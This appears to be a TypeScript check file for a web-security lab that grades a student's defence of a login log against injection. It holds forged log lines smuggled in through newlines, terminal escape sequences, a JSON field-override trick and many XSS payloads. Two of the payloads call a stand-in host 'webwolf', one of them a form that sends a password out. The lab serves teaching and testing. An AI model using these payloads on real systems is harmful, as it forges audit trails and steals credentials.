import type { Exchange } from '../../../src/features/web-lab/core/http';
import { inertHtml } from '../../../src/features/web-lab/core/inertHtml';
import { defineChecks } from '../../../src/features/web-lab/core/lab';
import { failUnlessShown, failure } from '../../../src/features/web-lab/core/probe';
import { attempt, failIfMarkup, failIfRaw, failIfSeen, logged, reader } from './attempts';
import { linesOf, mentions, parsed } from './logLines';
import { mistakes } from './mistakes';
import { seenLines } from './seenLines';
import { world, type Facts } from './world';

const forgedFor = (admin: string) => `2026-03-02T09:14:07.000Z login succeeded for ${admin}`;

const CONTROL = [
  'Sau yêu cầu này, nhật ký chứa ký tự điều khiển: terminal sẽ xóa, che hoặc dời chữ thay vì hiện nó.',
  'After this request, the log contains control characters: a terminal deletes, hides or moves text instead of showing them.',
] as const;

const NEW_LINE = [
  'Sau yêu cầu này, tệp nhật ký hoặc nhật ký của máy chủ có thêm một dòng do người lạ viết.',
  'After this request, the log file or the log of the server has one more line, written by a stranger.',
] as const;

export const checks = defineChecks<Facts>({
  world,

  goals: {
    forge: ({ request, response }, { admin }) =>
      request.method === 'GET' &&
      response.status === 200 &&
      new RegExp(`(?:^|[\\n\\r>])\\d{4}-\\S+ login succeeded for ${admin}\\s*(?:$|[\\n\\r<])`).test(response.body),
    script: ({ request, response }) =>
      request.method === 'GET' &&
      request.target.startsWith('/log') &&
      /html/.test(response.headers.find(([name]) => name === 'Content-Type')?.[1] ?? '') &&
      inertHtml(response.body).active.length > 0,
  },

  async attack(trial) {
    const client = await reader(trial);
    await attempt(client, `x\n${forgedFor(trial.facts.admin)}`);
    await attempt(client, '<script>alert(1)</script>');
    await client.open('/log');
  },

  checks: [
    {
      id: 'page-line',
      kind: 'attack',
      title: { vi: 'Một dòng giả trên trang nhật ký', en: 'A forged line on the page with the log' },
      run: (trial) => {
        const forged = forgedFor(trial.facts.admin);
        return failIfSeen(trial, [`x\n${forged}`, `x\r\n${forged}`, `${forged}\n${forged}`], forged);
      },
    },
    {
      id: 'file-line',
      kind: 'attack',
      title: { vi: 'Một dòng giả trong tệp nhật ký', en: 'A forged line in the log file' },
      run: (trial) => {
        const { admin } = trial.facts;
        const texts = [forgedFor(admin), `{"event":"login succeeded","account":"${admin}"}`, 'disk full'];
        return failIfRaw(
          trial,
          texts.flatMap((text) => [
            [`x\n${text}`, `\n${text}`],
            [`\n${text}`, `\n${text}`],
            [`x\r\n${text}`, `\n${text}`],
          ]),
          NEW_LINE,
        );
      },
    },
    {
      id: 'other-ends',
      kind: 'attack',
      title: { vi: 'Ký tự xuống dòng khác', en: 'Another kind of line break' },
      async run(trial) {
        const forged = forgedFor(trial.facts.admin);
        return (
          (await failIfSeen(trial, [`x\r${forged}`], forged)) ??
          (await failIfRaw(trial, [[`x\r${forged}`, `\r${forged}`]], NEW_LINE))
        );
      },
    },
    {
      id: 'several-ends',
      kind: 'attack',
      title: { vi: 'Nhiều ký tự xuống dòng', en: 'Several line breaks' },
      async run(trial) {
        const forged = forgedFor(trial.facts.admin);
        const accounts = [`x\ny\n${forged}`, `x\n\n${forged}`, `x\r\n\r\n${forged}`, `\n\n\n${forged}`];
        return (
          (await failIfSeen(trial, accounts, forged)) ??
          (await failIfRaw(
            trial,
            accounts.map((account) => [account, `\n${forged}`] as const),
            NEW_LINE,
          ))
        );
      },
    },
    {
      id: 'terminal',
      kind: 'attack',
      title: { vi: 'Ký tự mà terminal hiểu là lệnh', en: 'Characters that a terminal obeys' },
      run: (trial) =>
        failIfRaw(
          trial,
          [
            '\u001b[1A\u001b[2K',
            '\u001b[8m',
            '\u001b]0;k\u0007',
            '\b\b\b\b\b\b',
            '\u000b',
            '\u000c',
            '\u0000',
            '\u0005',
            '\u000e',
            '\u001a',
          ].map((code) => [`x${code}kho`, `${code}kho`] as const),
          CONTROL,
        ),
    },
    {
      id: 'terminal-8-bit',
      kind: 'attack',
      title: { vi: 'Ký tự điều khiển từ U+007F', en: 'Control characters from U+007F' },
      run: (trial) =>
        failIfRaw(
          trial,
          ['\u009b1A\u009b2K', '\u009d0;k\u009c', '\u0085', '\u007f', '\u0090'].map(
            (code) => [`x${code}kho`, `${code}kho`] as const,
          ),
          CONTROL,
        ),
    },
    {
      id: 'fields',
      kind: 'attack',
      title: { vi: 'Một trường giả trong dòng có cấu trúc', en: 'A forged field in a structured line' },
      async run(trial) {
        const { own, admin } = trial.facts;
        const client = await reader(trial);
        // Where a line is JSON, the attacker repeats its fields: the last one of a name counts.
        const real = linesOf(await client.send('GET', '/log.txt'))
          .map(parsed)
          .find((fields) => fields !== undefined);
        const key = Object.keys(real ?? {}).find((name) => real?.[name] === own.account);
        if (!real || key === undefined) return undefined;
        const rest = Object.entries(real).filter(([name]) => name !== key);
        const pairs = rest.map(([name, value]) => `${JSON.stringify(name)}:${JSON.stringify(value)},`).join('');
        const sent = await attempt(trial.client(), `x",${pairs}"${key}":"${admin}`);
        const lines = [...linesOf(await client.send('GET', '/log.txt')), ...logged(sent)];
        const isForged = lines.some((line) => {
          const fields = parsed(line);
          return fields?.[key] === admin && rest.every(([name, value]) => fields[name] === value);
        });
        return isForged
          ? failure(
              sent,
              `Sau yêu cầu này, nhật ký có một dòng mà chương trình đọc là ${admin} đăng nhập thành công.`,
              `After this request, the log has a line that a program reads as a successful login of ${admin}.`,
            )
          : undefined;
      },
    },
    {
      id: 'script',
      kind: 'attack',
      title: { vi: 'Mã chạy khi có người mở nhật ký', en: 'Code that runs when somebody opens the log' },
      run: (trial) => failIfMarkup(trial, (name) => [`<script>${name}()</script>`, `x<script>\n${name}()</script>`]),
    },
    {
      id: 'other-markup',
      kind: 'attack',
      title: { vi: 'Thẻ HTML khác', en: 'Other markup' },
      run: (trial) =>
        failIfMarkup(trial, (name) => [
          `<ScRiPt>${name}()</sCrIpT>`,
          `<script >${name}()</script >`,
          `<scr<script>ipt>${name}()</scr</script>ipt>`,
          `<script src="http://webwolf/${name}"></script>`,
          `<img src=x onerror=${name}()>`,
          `<img src=x onerror =${name}()>`,
          `<<b>img src=x onerror=${name}()>`,
          `</textarea></xmp></title><img src=x onerror=${name}()>`,
          `<${name} onmouseover=${name}()>`,
          // A browser takes the next `>` of the page.
          `<img src=x onerror=${name}() `,
          `<a href="javascript:${name}()">x</a>`,
          `<form action="http://webwolf/${name}"><input name="password"></form>`,
          // Last, because nothing behind an open `svg` is shown.
          `</pre><svg onload="${name}()">`,
        ]),
    },
    {
      id: 'as-json',
      kind: 'attack',
      title: { vi: 'Cùng tên ấy, gửi bằng JSON', en: 'The same names, sent as JSON' },
      async run(trial) {
        const forged = forgedFor(trial.facts.admin);
        return (
          (await failIfRaw(trial, [[[`x\n${forged}`], `\n${forged}`]], NEW_LINE)) ??
          (await failIfSeen(trial, [[`x\n${forged}`]], forged)) ??
          (await failIfMarkup(trial, (name) => [[`<script>${name}()</script>`], [`<img src=x onerror=${name}()>`]]))
        );
      },
    },
    {
      id: 'names',
      kind: 'legitimate',
      title: { vi: 'Nhật ký nêu tên đã thử', en: 'The log names who was tried' },
      async run(trial) {
        const client = await reader(trial);
        for (const name of trial.facts.strangers) {
          const sent = await attempt(trial.client(), name);
          const page = seenLines((await client.open('/log')).response.body).join('\n');
          const file = (await client.send('GET', '/log.txt')).response.body;
          if ([page, file, logged(sent).join('\n')].every((text) => mentions(text, name))) continue;
          return failure(
            sent,
            `Ai đó thử đăng nhập với tên “${name}”: nhật ký của máy chủ, trang và tệp đều phải nêu tên ấy.`,
            `Somebody tries to log in as “${name}”: the log of the server, the page and the file must all name it.`,
          );
        }
        return undefined;
      },
    },
    {
      id: 'both-results',
      kind: 'legitimate',
      title: { vi: 'Thành công khác với thất bại', en: 'Success differs from failure' },
      async run(trial) {
        const { own } = trial.facts;
        const client = await reader(trial);
        const ofOwn = async () =>
          linesOf(await client.send('GET', '/log.txt')).filter((line) => mentions(line, own.account));
        const succeeded = (await ofOwn()).at(-1)?.replace(/\d/g, '');
        const sent = await attempt(trial.client(), own.account);
        const failed = (await ofOwn()).at(-1)?.replace(/\d/g, '');
        if (succeeded !== undefined && failed !== undefined && succeeded !== failed) return undefined;
        return failure(
          sent,
          'Từ tệp nhật ký phải biết được lần nào đăng nhập thành công, lần nào thất bại, và của ai.',
          'The log file must tell which login has succeeded, which has failed, and whose it was.',
        );
      },
    },
    {
      id: 'other-name',
      kind: 'attack',
      title: { vi: 'Tên lạ được ghi thành tên của người khác', en: 'A strange name recorded as somebody else’s' },
      async run(trial) {
        const { admin } = trial.facts;
        const spelled = (sent: Exchange) =>
          logged(sent)
            .join('\n')
            .replace(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, '');
        const ofAdmin = spelled(await attempt(trial.client(), admin));
        for (const account of [`${admin.slice(0, 2)}\n${admin.slice(2)}`, `\u0007${admin}`, `${admin}\u001b`]) {
          const sent = await attempt(trial.client(), account);
          if (spelled(sent) !== ofAdmin) continue;
          return failure(
            sent,
            `Lần thử này dùng một tên khác, nhưng nhật ký ghi y như khi người thử gõ “${admin}”.`,
            `This attempt used another name, but the log reads as if somebody had typed “${admin}”.`,
          );
        }
        return undefined;
      },
    },
    {
      id: 'trace',
      kind: 'legitimate',
      title: { vi: 'Tên lạ cũng để lại dấu vết', en: 'Strange names leave a trace as well' },
      async run(trial) {
        const client = await reader(trial);
        for (const account of ['x\ny', 'x\u001by', '<b>x']) {
          const before = (await client.send('GET', '/log.txt')).response.body;
          const sent = await attempt(trial.client(), account);
          const after = (await client.send('GET', '/log.txt')).response.body;
          if (after.length > before.length && logged(sent).length > 0) continue;
          return failure(
            sent,
            'Lần thử này không để lại dòng nào trong nhật ký. Chính những lần thử lạ mới cần được ghi lại.',
            'This attempt leaves no line in the log. Strange attempts are the ones to be recorded.',
          );
        }
        return undefined;
      },
    },
    {
      id: 'log-in',
      kind: 'legitimate',
      title: { vi: 'Đăng nhập rồi xem nhật ký', en: 'Log in and see the log' },
      async run({ client: newClient, facts: { own } }) {
        const page = await newClient().submit('/login', own);
        return failUnlessShown(page, [own.account, '/log.txt'], {
          vi: 'Đăng nhập đúng phải dẫn đến trang nhật ký.',
          en: 'A correct login must lead to the log page.',
        });
      },
    },
  ],

  mistakes,
});
